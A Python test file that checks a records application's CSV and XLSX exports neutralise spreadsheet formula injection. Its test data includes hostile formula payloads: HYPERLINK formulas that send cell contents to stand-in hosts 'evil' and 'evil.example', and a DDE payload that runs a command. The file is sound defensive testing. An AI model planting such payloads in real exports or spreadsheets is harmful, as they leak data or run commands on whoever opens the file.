"""Formula injection: every CSV and XLSX the node writes shows `=...` as text, never runs it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from armsbridge.audit import service as audit
from armsbridge.auth import service as auth_service
from armsbridge.auth.principal import Principal
from armsbridge.errors import UserError
from armsbridge.indicators.iafq import write_iafq_xlsx
from armsbridge.matching.linkfiles import link_files
from armsbridge.records import service
from armsbridge.records.export import export_records
from armsbridge.spreadsheet import safe_cell, unquote_cell
from principals import as_actor

ATTACKS = ['=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1-1", "-2+3"]
HIDDEN = ["\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS + HIDDEN + ["+389 70 123 456"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe_and_reads_back(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, True, "Agim", "'quoted", "", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert safe_cell(value) is value


def test_record_export_csv_neutralises_text_and_keeps_negative_numbers(session, tmp_path):
    for n, text in enumerate(ATTACKS):
        service.create_record(
            session,
            record_type="person",
            data={"jurisdiction": "XK", "given_name": text, "family_name": f"F{n}"},
            user=as_actor("a"),
        )
    service.create_record(
        session,
        record_type="place",
        data={"jurisdiction": "XK", "name": "Hani i Elezit", "latitude": -42.5},
        user=as_actor("a"),
    )
    export_records(session, why="formula test", out=tmp_path, fmt="csv", user=as_actor("a"))
    with (tmp_path / "person.csv").open(encoding="utf-8", newline="") as handle:
        names = {r["given_name"] for r in csv.DictReader(handle)}
    assert {"'" + text for text in ATTACKS} <= names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
    with (tmp_path / "place.csv").open(encoding="utf-8", newline="") as handle:
        assert [r["latitude"] for r in csv.DictReader(handle)] == ["-42.5"]


def test_audit_csv_export_neutralises_the_justification(session):
    auditor = Principal(id=1, username="auditor_xk", role="auditor", jurisdiction="XK")
    audit.log_event(
        session,
        actor="ana",
        action="search",
        record_type="person",
        jurisdiction="XK",
        why=ATTACKS[1],
    )
    out = io.StringIO()
    audit.export_csv(session, user=auditor, out=out, filters=audit.EntryFilters())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert any(row["why"] == "'" + ATTACKS[1] for row in rows)
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if v)


def test_link_file_ids_are_neutralised(tmp_path: Path):
    left, right = tmp_path / "a.csv", tmp_path / "b.csv"
    left.write_text(
        "id,first,last,born\n=1+1,Elena,Petrovska,14.03.1983\n2,Ivan,Ivanov,02.05.1970\n",
        encoding="utf-8",
    )
    right.write_text(
        "id,first,last,born\n@SUM(1),Elena,Petrovska,14.03.1983\n7,Arben,Krasniqi,01.01.1990\n",
        encoding="utf-8",
    )
    out = tmp_path / "pairs.csv"
    link_files(
        left,
        right,
        out,
        fields=["given_name=first", "family_name=last", "birth_date=born:%d.%m.%Y"],
        threshold=0.0,
    )
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert ["'=1+1", "'@SUM(1)"] in [r[:2] for r in rows[1:]]


def test_xlsx_reports_hold_text_not_formulas(tmp_path):
    table = {"title": "T", "columns": ["make", "count"], "rows": [[ATTACKS[0], 3], ["-", -1]]}
    path = write_iafq_xlsx({"sheet": table}, tmp_path / "iafq.xlsx")
    ws = load_workbook(path)["sheet"]
    assert (ws["A5"].value, ws["A5"].data_type) == ("'" + ATTACKS[0], "s")
    assert (ws["B5"].value, ws["B6"].value, ws["A6"].value) == (3, -1, "'-")


def test_a_formula_typed_as_a_user_name_at_sign_in_is_neutralised_in_the_audit_csv(session):
    planted = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with pytest.raises(UserError):
        auth_service.authenticate(session, username=planted, password="x", client="203.0.113.9")
    auditor = Principal(id=1, username="auditor_xk", role="auditor", jurisdiction="XK")
    out = io.StringIO()
    audit.export_csv(session, user=auditor, out=out, filters=audit.EntryFilters())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert any(row["actor"] == "'" + planted for row in rows), [r["actor"] for r in rows]
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if v)
